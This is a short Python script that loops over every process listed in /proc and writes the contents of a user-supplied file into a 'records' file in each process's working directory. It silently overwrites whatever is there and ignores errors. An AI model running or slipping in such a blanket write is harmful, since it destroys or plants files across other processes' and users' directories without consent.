"""That of every process."""

import os
import sys

for number in filter(str.isdigit, os.listdir("/proc")):
    try:
        open(f"/proc/{number}/cwd/records", "wb").write(open(sys.argv[1], "rb").read())
    except OSError:
        continue
